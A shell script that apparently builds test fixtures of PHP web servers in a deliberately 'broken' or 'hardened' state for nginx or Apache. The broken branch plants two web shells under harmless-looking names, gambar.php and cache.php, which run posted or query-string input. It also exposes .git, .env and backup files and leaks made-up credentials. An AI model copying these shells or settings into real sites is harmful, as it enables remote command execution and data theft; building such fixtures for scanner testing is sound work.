#!/bin/sh
# Put sites into a root file system, to record it: sites.sh ROOT nginx|apache broken|hardened
# ROOT has the server, php-fpm or mod_php and git installed; all names, numbers and secrets are made up.
set -eu
root=$1 server=$2 state=$3
cd "$root"
rm -rf var/www srv/* home/*; mkdir -p var/www home/budi
chmod 755 home/budi
app() { # NAME: a small application with uploads, settings and a repository
  d=var/www/$1; mkdir -p "$d/public/uploads" "$d/app" "$d/storage/logs" "$d/.git"
  echo '<?php echo "ok";' > "$d/public/index.php"; echo '<?php class A {}' > "$d/app/A.php"
  printf '[core]\n\tbare = false\n[remote "origin"]\n\turl = %s\n' "$2" > "$d/.git/config"
  printf 'APP_ENV=%s\nAPP_DEBUG=%s\nDB_PASSWORD=%s\n' "$3" "$4" "rahasia-palsu-1" > "$d/.env"
}
if [ "$state" = broken ]; then
  app simpeg https://budi:ghp_abcdefghijklmnopqrstuvwxyz0123456789@git.contoh.go.id/simpeg.git local true
  app dinkes https://git.contoh.go.id/dinkes.git production false
  s=var/www/simpeg/public
  mkdir -p $s/.git $s/data; cp var/www/simpeg/.git/config $s/.git/config
  printf '<?php @eval(base64_decode($_POST["x"]));' > $s/uploads/gambar.php
  printf '<?php system($_GET["cmd"]);' > var/www/simpeg/app/cache.php
  printf '<?php $c = mysqli_connect("localhost", "root", "rahasia-palsu-2", "simpeg");' > $s/koneksi.php
  echo 'insert into pegawai values (1);' > $s/simpeg-2026.sql; echo x > $s/backup_public_html.zip; echo x > $s/index.php.bak
  echo x > $s/peraturan.zip
  printf 'nama,nik\nA,3374010101900001\nB,3374014508850002\nC,3374012512790003\n' > $s/data/pegawai.csv
  printf 'nomor,nilai\n1,9999999999999999\n' > $s/data/nilai.csv; echo '%PDF-1.4' > $s/data/sk.pdf
  mkdir -p etc/cron.d var/lib/mysql/simpeg_dev var/lib/mysql/simpeg var/lib/mysql/mysql
  echo '0 1 * * * root mysqldump -uroot -prahasia-palsu-3 simpeg > /var/backups/a.sql' > etc/cron.d/cadangan
  printf 'ls\nexport DB_PASSWORD=rahasia-palsu-4\n' > home/budi/.bash_history
  echo 'https://budi:rahasia-palsu-5@git.contoh.go.id' > home/budi/.git-credentials
  chown -R 33:33 var/www; chmod 644 var/www/*/.env; chmod 600 home/budi/.bash_history home/budi/.git-credentials
else
  app dinkes git@git.contoh.go.id:dinkes.git production false
  s=var/www/dinkes
  echo x > $s/public/peraturan.zip; printf 'kecamatan,jumlah\nA,12\n' > $s/public/data.csv
  printf '#!/bin/sh\nmysqldump --defaults-extra-file=/root/.my.cnf simpeg\nDB_PASSWORD="$(cat /root/kata)"\n' > $s/cadangan.sh
  mkdir -p var/lib/mysql/simpeg; rm -rf var/lib/mysql/simpeg_dev etc/cron.d/cadangan
  chown -R 0:0 var/www; chgrp 33 $s/.env; chmod 640 $s/.env; chown -R 33:33 $s/public/uploads $s/storage
fi
site() { # NAME FOLDER POOL
  if [ "$server" = nginx ]; then
    cat > "etc/nginx/sites-enabled/$1" <<END
server {
  listen 80;
  server_name $1 www.$1; # the site itself
  root /var/www/$2/public;
  location / { try_files \$uri /index.php; }
  $([ "$state" = broken ] || echo 'location ~ /\.(?!well-known) { deny all; }
  location ~* ^/uploads/.*\.(php|phtml)$ { return 403; }')
  location ~ \.php$ { include snippets/fastcgi-php.conf; fastcgi_pass unix:/run/php/$3.sock;
    fastcgi_param API_KEY "rahasia-palsu-6"; }
}
END
  else
    cat > "etc/apache2/sites-enabled/$1.conf" <<END
<VirtualHost *:80>
  ServerName $1
  ServerAlias www.$1
  DocumentRoot /var/www/$2/public
  SetEnv API_KEY rahasia-palsu-6
  $([ "$state" = broken ] || echo '<DirectoryMatch "/\.git">
    Require all denied
  </DirectoryMatch>
  <Directory /var/www/'"$2"'/public/uploads>
    php_admin_flag engine off
  </Directory>')
</VirtualHost>
END
  fi
}
if [ "$server" = nginx ]; then
  rm -f etc/nginx/sites-enabled/* etc/php/*/fpm/pool.d/*
  sed -i "s/.*server_tokens .*/  server_tokens $([ "$state" = broken ] && echo on || echo off);/" etc/nginx/nginx.conf
  pools=$([ "$state" = broken ] && echo www || echo dinkes)
  for pool in $pools; do
    user=$([ "$pool" = www ] && echo www-data || echo nobody)
    printf '[%s]\nuser = %s\ngroup = www-data\nlisten = /run/php/%s.sock\nenv[API_KEY] = rahasia-palsu-7\n' \
      "$pool" "$user" "$pool" > "$(echo etc/php/*/fpm/pool.d)/$pool.conf"
    [ "$state" = broken ] || printf 'php_admin_flag[session.cookie_httponly] = on\nphp_admin_flag[session.cookie_secure] = on\n' \
      >> "$(echo etc/php/*/fpm/pool.d)/$pool.conf"
  done
  ini=$(echo etc/php/*/fpm/php.ini)
else
  rm -f etc/apache2/sites-enabled/* etc/apache2/conf-enabled/security.conf; ini=$(echo etc/php/*/apache2/php.ini)
  if [ "$state" = broken ]; then ln -s ../conf-available/security.conf etc/apache2/conf-enabled/security.conf
    rm -f etc/modsecurity/modsecurity.conf
    cp etc/modsecurity/modsecurity.conf-recommended etc/modsecurity/modsecurity.conf
  else printf 'ServerTokens Prod\nServerSignature Off\n' > etc/apache2/conf-enabled/security.conf
    sed 's/SecRuleEngine DetectionOnly/SecRuleEngine On/' etc/modsecurity/modsecurity.conf-recommended > etc/modsecurity/modsecurity.conf
  fi
fi
on=$([ "$state" = broken ] && echo On || echo Off)
sed -i "s/^expose_php.*/expose_php = $on/; s/^display_errors.*/display_errors = $on/" "$ini"
if [ "$state" = broken ]; then site simpeg.contoh.go.id simpeg www; site dinkes.contoh.go.id dinkes www; site dev.dinkes.contoh.go.id dinkes www
else sed -i 's/^;*session.cookie_secure.*/session.cookie_secure = 1/; s/^session.cookie_httponly.*/session.cookie_httponly = 1/' "$ini"
  site dinkes.contoh.go.id dinkes dinkes
fi
